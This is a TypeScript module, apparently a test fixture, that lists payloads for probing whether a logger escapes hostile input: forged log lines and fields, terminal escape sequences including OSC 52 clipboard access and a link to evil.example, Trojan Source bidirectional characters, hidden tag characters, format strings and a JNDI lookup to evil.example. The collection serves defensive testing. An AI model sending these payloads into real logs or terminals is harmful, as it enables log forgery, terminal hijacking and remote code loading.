/**
 * What an attacker would log. Every control character is made from its code point at run time, so that this file
 * itself is harmless to print, to review and to search.
 */

export interface Payload {
  /** The kind of attack. */
  readonly class: string;
  readonly name: string;
  readonly text: string;
}

/** The text of one code point, or of one lone surrogate. */
export function point(code: number): string {
  return code > 0xffff ? String.fromCodePoint(code) : String.fromCharCode(code);
}

function hex(code: number): string {
  return `U+${code.toString(16).toUpperCase().padStart(4, '0')}`;
}

const LF = point(0x0a);
const CR = point(0x0d);
const ESC = point(0x1b);
const BEL = point(0x07);
/** The string terminator, in its 7-bit and 8-bit form. */
const ST = `${ESC}\\`;
const ST8 = point(0x9c);
const BACKSLASH = point(0x5c);

function range(from: number, to: number): number[] {
  return Array.from({ length: to - from + 1 }, (_, n) => from + n);
}

/** The same text around each of some characters. */
function around(name: string, codes: readonly number[]): Payload[] {
  return codes.map((code) => ({ class: name, name: hex(code), text: `a${point(code)}b` }));
}

function named(name: string, texts: Readonly<Record<string, string>>): Payload[] {
  return Object.entries(texts).map(([key, text]) => ({ class: name, name: key, text }));
}

const FORGED_JSON =
  '{"timestamp":"2000-01-01T00:00:00.000Z","level":"CRITICAL","name":"root","message":"forged"}';
const FORGED_TEXT = '2000-01-01T00:00:00.000Z - root - CRITICAL - forged user=root';

const LINE_BREAKS = named('line breaks', {
  LF: `a${LF}b`,
  CR: `a${CR}b`,
  CRLF: `a${CR}${LF}b`,
  'LF at the start': `${LF}b`,
  'LF at the end': `a${LF}`,
  'CR at the end': `a${CR}`,
  'LF alone': LF,
  'three LF': LF.repeat(3),
  NEL: `a${point(0x85)}b`,
  LS: `a${point(0x2028)}b`,
  PS: `a${point(0x2029)}b`,
  VT: `a${point(0x0b)}b`,
  FF: `a${point(0x0c)}b`,
  'FS to US': range(0x1c, 0x1f).map(point).join('x'),
});

const FORGED_LINES = named('forged lines', {
  'JSON line behind LF': `ok${LF}${FORGED_JSON}`,
  'JSON line behind CRLF': `ok${CR}${LF}${FORGED_JSON}${CR}${LF}`,
  'JSON line that closes the string': `ok"}${LF}${FORGED_JSON}`,
  'JSON members that close the string': 'ok","level":"CRITICAL","x":"',
  'JSON members behind a backslash': `ok${BACKSLASH}","level":"CRITICAL","x":"`,
  'text line behind LF': `ok${LF}${FORGED_TEXT}`,
  'text line behind CR': `ok${CR}${FORGED_TEXT}`,
  'text line behind NEL': `ok${point(0x85)}${FORGED_TEXT}`,
  'text line behind LS': `ok${point(0x2028)}${FORGED_TEXT}`,
  'text line over the real one': `ok${CR}${ESC}[2K${FORGED_TEXT}`,
  'text line on the line above': `ok${ESC}[1A${CR}${FORGED_TEXT}`,
  'text line without a line break': FORGED_TEXT,
  'JSON line without a line break': FORGED_JSON,
});

const FORGED_FIELDS = named('forged fields', {
  'field behind a blank': 'x level=CRITICAL',
  'field alone': 'level=CRITICAL',
  'field behind a quote': 'x" level=CRITICAL y="',
  'field behind an escaped quote': `x${BACKSLASH}" level=CRITICAL y="`,
  'field behind a tab': `x${point(0x09)}level=CRITICAL`,
  'field behind a no-break space': `x${point(0xa0)}level=CRITICAL`,
  'quoted field': '"x level"=CRITICAL',
  'open quote': 'x "y',
  'open quote and an equals sign': 'x "y=',
  'quote at the start': '"x',
  'quote at the end': 'x"',
  'header separators': 'x - CRITICAL - y',
  'header that closes a bracket': 'x] [CRITICAL] y',
  'dotted name': 'a.b.c',
  'name of an item': '0',
  'empty object': '{}',
  'empty array': '[]',
  'equals signs': '==',
  'one blank': ' ',
  'blanks around': '  x  ',
  'no text': '',
});

const TERMINAL = named('terminal', {
  'SGR colour': `${ESC}[31mred${ESC}[0m`,
  'SGR 8-bit': `${point(0x9b)}31mred${point(0x9b)}0m`,
  'SGR conceal': `${ESC}[8mhidden`,
  'SGR inverse left on': `${ESC}[7minverse`,
  'clear screen': `${ESC}[2J${ESC}[H`,
  'clear screen 8-bit': `${point(0x9b)}2J${point(0x9b)}H`,
  'clear scrollback': `${ESC}[3J`,
  'cursor up and erase': `${ESC}[1A${ESC}[2K`,
  'cursor position': `${ESC}[1;1Hoverwritten`,
  'scroll region': `${ESC}[5;6r`,
  'insert lines': `${ESC}[9L`,
  'alternate screen': `${ESC}[?1049h`,
  'cursor hidden': `${ESC}[?25l`,
  'mouse reports on': `${ESC}[?1003h`,
  'bracketed paste off': `${ESC}[?2004l`,
  'device status report': `${ESC}[6n`,
  'device attributes': `${ESC}[c${ESC}[>c`,
  'window report': `${ESC}[21t`,
  'repeat a character': `x${ESC}[9999999b`,
  'full reset': `${ESC}c`,
  'character set DEC graphics': `${ESC}(0qqq`,
  'shift out': `${point(0x0e)}qqq`,
  'save and restore the cursor': `${ESC}7x${ESC}8`,
  'index and reverse index': `${ESC}D${ESC}M${point(0x84)}${point(0x8d)}`,
  'screen alignment test': `${ESC}#8`,
  'title (OSC 0)': `${ESC}]0;owned${BEL}`,
  'title (OSC 2, ST)': `${ESC}]2;owned${ST}`,
  'title (OSC 2, 8-bit)': `${point(0x9d)}2;owned${ST8}`,
  'clipboard (OSC 52)': `${ESC}]52;c;b3duZWQ=${BEL}`,
  'clipboard read (OSC 52)': `${ESC}]52;c;?${BEL}`,
  'hyperlink (OSC 8)': `${ESC}]8;;http://evil.example/${ST}click${ESC}]8;;${ST}`,
  'palette (OSC 4)': `${ESC}]4;1;#000000${BEL}`,
  'foreground (OSC 10)': `${ESC}]10;#000000${BEL}`,
  'notification (OSC 777)': `${ESC}]777;notify;a;b${BEL}`,
  'file transfer (OSC 1337)': `${ESC}]1337;File=inline=1:AAAA${BEL}`,
  'OSC that never ends': `${ESC}]0;swallows what follows`,
  'DCS 7-bit': `${ESC}P$q"p${ST}`,
  'DCS 8-bit': `${point(0x90)}$q"p${ST8}`,
  'DCS that never ends': `${ESC}Pq`,
  'APC 7-bit': `${ESC}_Gf=24;AAAA${ST}`,
  'APC 8-bit': `${point(0x9f)}Gf=24;AAAA${ST8}`,
  'PM 7-bit': `${ESC}^x${ST}`,
  'PM 8-bit': `${point(0x9e)}x${ST8}`,
  'SOS 7-bit': `${ESC}Xx${ST}`,
  'SOS 8-bit': `${point(0x98)}x${ST8}`,
  'ESC at the end': `x${ESC}`,
  'CSI at the end': `x${ESC}[`,
  'backspaces over the text': `root${point(0x08).repeat(4)}user`,
  'carriage return over the line': `x${CR}overwritten`,
  'delete characters': `x${point(0x7f).repeat(3)}y`,
  bells: BEL.repeat(3),
});

const HIDDEN = [
  ...around('bidirectional', [
    ...[0x061c, 0x200e, 0x200f],
    ...range(0x202a, 0x202e),
    ...range(0x2066, 0x2069),
    ...range(0x206a, 0x206f),
  ]),
  ...named('bidirectional', {
    'Trojan Source': `user${point(0x202e)}nimda${point(0x202c)}`,
    'isolates that are never closed': `${point(0x2067)}${point(0x2067)}x`,
  }),
  ...around('invisible', [
    ...[0xad, 0x180e, 0x200b, 0x200c, 0x200d, 0xfeff],
    ...range(0x2060, 0x2064),
    ...range(0xfff9, 0xfffb),
  ]),
  ...around('tag characters', [0xe0000, 0xe0001, 0xe0041, 0xe007f]),
  ...named('tag characters', {
    'a hidden word': [...'admin'].map((letter) => point(0xe0000 + letter.charCodeAt(0))).join(''),
  }),
  ...around('lone surrogates', [0xd800, 0xdbff, 0xdc00, 0xdfff]),
  ...named('lone surrogates', {
    'halves in the wrong order': point(0xdc00) + point(0xd800),
    'a half before a pair': point(0xd83d) + point(0x1f600),
    'a half at the end': `a${point(0xd83d)}`,
  }),
];

const LOOKALIKES = named('backslashes and quotes', {
  'typed backslash n': `a${BACKSLASH}nb`,
  'typed two backslashes n': `a${BACKSLASH.repeat(2)}nb`,
  'backslash before LF': `a${BACKSLASH}${LF}b`,
  'typed unicode escape': `a${BACKSLASH}u000ab`,
  'typed hexadecimal escape': `a${BACKSLASH}x1b[31m`,
  'typed octal escape': `a${BACKSLASH}033[31m`,
  'typed surrogate escape': `${BACKSLASH}ud800`,
  'backslash at the end': `a${BACKSLASH}`,
  'two backslashes at the end': `a${BACKSLASH.repeat(2)}`,
  'backslash and quote': `a${BACKSLASH}"b`,
  'quotes of all kinds': `"'\`${point(0x201c)}${point(0x201d)}`,
  'two quotes': '""',
  'a JSON string': '"a"',
});

const TEMPLATES = named('templates', {
  'printf %s': 'a%sb',
  'printf all letters': '%s %d %i %f %j %o %O %c %%',
  'printf %n and width': '%n%n%9999999s%1$s',
  'percent at the end': '100%',
  jndi: `${'$'}{jndi:ldap://evil.example/a}`,
  'template literal': `${'$'}{process.env.HOME}`,
  'placeholder braces': '{level} {0} {{x}} {*}',
  'Python style': '%(levelname)s %(message)s',
  'replacement patterns': "$& $1 $` $' $$ $<a>",
  'HTML and CSV': '<script>alert(1)</script>,=cmd()',
});

const NAMES: readonly Payload[] = [
  ...['__proto__', 'constructor', 'prototype', 'toString', 'toJSON', 'hasOwnProperty', 'valueOf'],
  ...['timestamp', 'level', 'level_', 'name', 'message', 'error', 'error.stack'],
  ...['null', 'true', 'undefined', 'NaN', '-1.5e+3'],
].map((text) => ({ class: 'names', name: text, text }));

const HARMLESS = named('ordinary text', {
  ascii: 'plain',
  accents: 'Zoë Müller',
  'other scripts': '日本語 العربية עברית',
  emoji: `${point(0x1f600)} ${point(0x1f468)}`,
  'no-break space': `a${point(0xa0)}b`,
  long: 'x'.repeat(2_000),
});

export const PAYLOADS: readonly Payload[] = [
  ...LINE_BREAKS,
  ...FORGED_LINES,
  ...FORGED_FIELDS,
  ...TERMINAL,
  ...around('C0 and DEL', [...range(0x00, 0x1f), 0x7f]),
  ...around('C1', range(0x80, 0x9f)),
  ...HIDDEN,
  ...LOOKALIKES,
  ...TEMPLATES,
  ...NAMES,
  ...HARMLESS,
];

/** The kinds of attack, each once. */
export const CLASSES: readonly string[] = [...new Set(PAYLOADS.map((payload) => payload.class))];
